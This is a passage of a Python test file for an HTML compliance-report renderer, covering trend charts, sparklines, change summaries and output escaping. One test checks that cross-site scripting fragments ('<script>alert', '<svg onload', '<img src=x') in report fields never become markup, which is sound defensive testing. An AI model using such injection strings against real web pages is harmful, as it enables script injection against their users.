    assert first.find("span", **{"class": "msg"})[0].ordered_text() == HOSTILE_MESSAGE
    assert "Echo <b>verdict</b>" in first.ordered_text()  # the policy's title, as text
    # Unknown severities get no badge (and no class built from them); unknown policies
    # keep their id, escaped; a message is never markup.
    assert fixed[0].find("span", **{"class": "sev s-\"><b>x</b>"}) == []
    assert not any(n.attrs.get("class", "").startswith("sev") for n in fixed[0].walk()
                   if n.tag == "span")
    assert fixed[0].find("code")[0].ordered_text() == HOSTILE_POLICY
    assert fixed[0].find("a")[0].attrs["href"] == "#repo=acme%2Falpha&p=" + quote(
        HOSTILE_POLICY, safe="")
    assert f"(now pass) \u2014 it failed with: {XSS}" in fixed[0].ordered_text()
    assert added[0].find("a")[0].attrs["href"] == "#repo=" + quote(f"acme/{HOSTILE_REPO}",
                                                                    safe="")
    assert removed[0].find("a") == []  # not in this report
    assert removed[0].ordered_text() == f"acme/gone {XSS}"
    assert expired[0].find("i")[0].ordered_text() == (
        f"(waiver by {WAIVER_OWNER} expired on 2026-02-28: {WAIVER_REASON})")
    # Nothing hostile became markup anywhere.
    for raw in ("<script>alert", "<svg onload", "<b>x</b>", "<img src=x"):
        assert raw not in html
    for tag, attrs in tree.start_tags:
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        assert "style" not in attrs, (tag, attrs)  # the CSP would block them
    assert [n.tag for n in tree.root.find("script")] == ["script", "script"]


def test_html_trend_charts_and_sparklines_for_the_scans_up_to_this_one(
        reports: Reports) -> None:
    from governance.render.html import CHART, SPARK

    frame = load_findings(reports.folder / "findings.jsonl")
    tree = parse(render_html(frame, _history_meta(reports)))
    section = _section(tree, "trend")
    (svg,) = section.find("svg")
    circles = svg.find("circle")
    # scan 8 came after this report's scan 7: not shown
    assert [c.find("title")[0].ordered_text() for c in circles] == [
        "Scan 5, 2026-03-01: 60.0%", "Scan 6, 2026-03-02: 70.0%", "Scan 7, 2026-03-03: 75.0%"]
    heights = [CHART.top + CHART.plot_height * (100 - v) / 100 for v in (60.0, 70.0, 75.0)]
    assert [float(c.attrs["cy"]) for c in circles] == pytest.approx(heights, abs=0.01)
    assert "\u25b2 +5.0 pts" in section.ordered_text()
    rows = section.find("tbody")[0].find("tr")
    assert [r.find("th")[0].ordered_text() for r in rows] == ["5", "6", "7"]

    def spark(policy: str) -> Node:
        (row,) = [r for r in tree.root.find("tr") if r.attrs.get("id") == f"p-{policy}"]
        (cell,) = row.find("td", **{"class": "spark"})
        return cell

    echo = spark("echo-verdict")
    (svg,) = echo.find("svg")
    assert svg.attrs["aria-label"] == (
        "echo-verdict: compliance in the last 3 scans, oldest first: 40.0%, n/a, 50.0%")
    assert svg.find("polyline") == []  # a gap: two lone points, each marked
    assert [float(c.attrs["cy"]) for c in svg.find("circle")] == pytest.approx(
        [SPARK.top + SPARK.plot_height * (100 - v) / 100 for v in (40.0, 50.0)], abs=0.01)
    assert "pts" not in echo.ordered_text()  # no change to show across a gap
    flat = spark("second-verdict")
    assert "\u00b10.0 pts since the previous scan" in flat.ordered_text()
    # The policy table gained a column only for the trend; rows keep their cells in order.
    (policies,) = [n for n in tree.root.find("section") if n.attrs.get("id") == "policies"]
    heads = [th.ordered_text() for th in policies.find("thead")[0].find("th")]
    assert heads[3] == "Trend (last 3)"
    assert all(len(r.find("td")) == len(heads) for r in policies.find("tbody")[0].find("tr"))


@pytest.mark.parametrize("trend", [
    None, [], "x", {"scans": "x"}, {"scans": []}, {"scans": [{"id": 1}]},
    {"scans": [{"id": 1, "compliance": "80"}, {"id": True, "compliance": float("nan")},
               {"id": 3, "compliance": 120, "outcomes": {"pass": "1"}}, 5],
     "policies": {"echo-verdict": "x", "second-verdict": [True, None]}},
])
def test_html_history_sections_tolerate_missing_or_malformed_meta(
        reports: Reports, trend: object) -> None:
    frame = load_findings(reports.folder / "findings.jsonl")
    meta = {**reports.meta, "trend": trend,
            "changes": {"previous_scan_id": 3, "counts": "x", "fixed": "x",
                        "new_failures": [None, 3, "acme/alpha"]}}
    tree = parse(render_html(frame, meta))
    sections = [n.attrs.get("id") for n in tree.root.find("section")]
    assert "changes" in sections
    shown = isinstance(trend, dict) and isinstance(trend.get("scans"), list) and len(
        [s for s in trend["scans"] if isinstance(s, dict)]) > 1
    assert ("trend" in sections) == shown
    if shown:  # nothing usable to draw: no line, no point, and the table says n/a
        svg = _section(tree, "trend").find("svg")[0]
        assert svg.find("polyline") == [] and svg.find("circle") == []
        rows = _section(tree, "trend").find("tbody")[0].find("tr")
        assert [r.find("td")[2].ordered_text() for r in rows] == ["n/a"] * 3


def test_html_without_history_or_with_nothing_changed(reports: Reports) -> None:
    frame = load_findings(reports.folder / "findings.jsonl")
    tree = parse(render_html(frame, reports.meta))  # a scan recorded in no store
    assert {n.attrs.get("id") for n in tree.root.find("section")}.isdisjoint(
        {"changes", "trend"})
    assert not [a for a in tree.root.find("a") if a.attrs.get("href") in ("#changes", "#trend")]
    first = parse(render_html(frame, {**reports.meta, "changes": {
        "scan_id": 1, "previous_scan_id": None, "counts": {}}}))
    assert "This is the first recorded scan of this source" in _section(
        first, "changes").ordered_text()
    quiet = parse(render_html(frame, {**reports.meta, "changes": {
        "scan_id": 2, "previous_scan_id": 1, "previous_started": "nonsense",
        "counts": dict.fromkeys(("new_failures", "fixed"), 0)}}))
    section = _section(quiet, "changes")
    assert "Nothing changed since the previous scan." in section.ordered_text()
    assert "compared with scan 1 of nonsense" in " ".join(section.ordered_text().split())
    assert section.find("h3") == []
